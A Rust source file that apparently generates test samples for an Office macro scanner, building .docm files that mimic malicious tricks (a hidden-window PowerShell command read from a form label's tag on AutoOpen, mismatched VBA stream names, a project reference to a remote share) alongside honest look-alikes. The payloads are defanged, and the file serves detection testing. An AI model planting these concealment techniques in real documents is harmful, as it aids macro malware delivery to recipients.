//! Macros whose payload or project tables are not what they seem: user forms, names, references.

use crate::office::cfb::Cfb;
use crate::office::forms::Form;
use crate::office::macros;
use crate::office::ooxml::Package;
use crate::office::vba::{Module, Project};
use crate::{Sample, mark};

/// The samples.
pub(super) fn all() -> Vec<Sample> {
    vec![
        Sample {
            id: "fo40",
            file_name: "請求書.docm",
            about: "a macro that takes its command from the tag of a label",
            make: || {
                let command =
                    format!("powershell -nop -w hidden -c harmless-none; # {} https://example.com/fo40", mark("fo40"));
                let form = Form::new("UserForm1").label("Label1", "OK", &command, "").text_box("TextBox1", &encoded());
                with_form("Sub AutoOpen()\n    x = UserForm1.Label1.Tag\nEnd Sub\n", &form)
            },
        },
        Sample {
            id: "fo41",
            file_name: "見積書.docm",
            about: "a module whose stream has one name in the code page and another in UTF-16",
            make: || {
                let project = dropper("fo41");
                let streams = project.streams().into_iter();
                let file = streams.fold(Cfb::new(), |file, (path, bytes)| match path.as_str() {
                    "VBA/dir" => file.stream(&path, macros::renamed_dir(&project)),
                    _ => file.stream(&path, bytes),
                });
                Package::docm("お見積り", file.build()).build()
            },
        },
        Sample {
            id: "fo42",
            file_name: "見積書.docm",
            about: "a macro project that loads another from a share outside the network",
            make: || {
                let mut project = dropper("fo42");
                project.references.push(("Tools".to_owned(), "*\\C\\\\192.0.2.20\\s\\tools.dotm".to_owned()));
                Package::docm("お見積り", macros::vba_project(&project)).build()
            },
        },
        Sample {
            id: "bo42",
            file_name: "集計表.docm",
            about: "an honest project that loads the department's add-in from its file server",
            make: || {
                let source = "Public Sub Total()\n    MsgBox \"OK\"\nEnd Sub\n";
                let mut project =
                    Project::new(vec![Module::document("ThisDocument", ""), Module::standard("Module1", source)]);
                project.references.push(("Kaikei".to_owned(), "*\\C\\\\fileserver\\addins\\kaikei.dotm".to_owned()));
                Package::docm("集計", macros::vba_project(&project)).build()
            },
        },
        Sample {
            id: "bo40",
            file_name: "申込書.docm",
            about: "an honest form with labels, boxes and a long explanation",
            make: || {
                let text =
                    "Enter the name of the passenger as it stands in the passport and press OK to go on. ".repeat(6);
                let form = Form::new("UserForm1")
                    .label("Label1", "お名前", "", "全角で入力してください")
                    .label("Label2", &text, "help", "")
                    .text_box("TextBox1", "https://www.example.com/help")
                    .frame("Frame1", Form::new("").text_box("TextBox2", "羽田"));
                with_form("Public Sub ShowForm()\n    UserForm1.Show\nEnd Sub\n", &form)
            },
        },
    ]
}

fn dropper(id: &str) -> Project {
    let source = format!("Sub Show()\n    ' {}\n    MsgBox \"OK\"\nEnd Sub\n", mark(id));
    Project::new(vec![Module::document("ThisDocument", ""), Module::standard("Module1", &source)])
}

fn with_form(source: &str, form: &Form) -> Vec<u8> {
    let project = Project::new(vec![Module::document("ThisDocument", ""), Module::standard("Module1", source)]);
    let file = macros::with_project(Cfb::new(), "", &project);
    let file = form.streams().into_iter().fold(file, |file, (path, bytes)| file.stream(&path, bytes));
    Package::docm("お申込み", file.build()).build()
}

/// Letters without sense.
fn encoded() -> String {
    (0..400u32).map(|number| char::from(b'A' + (number * 7 % 26) as u8)).collect()
}
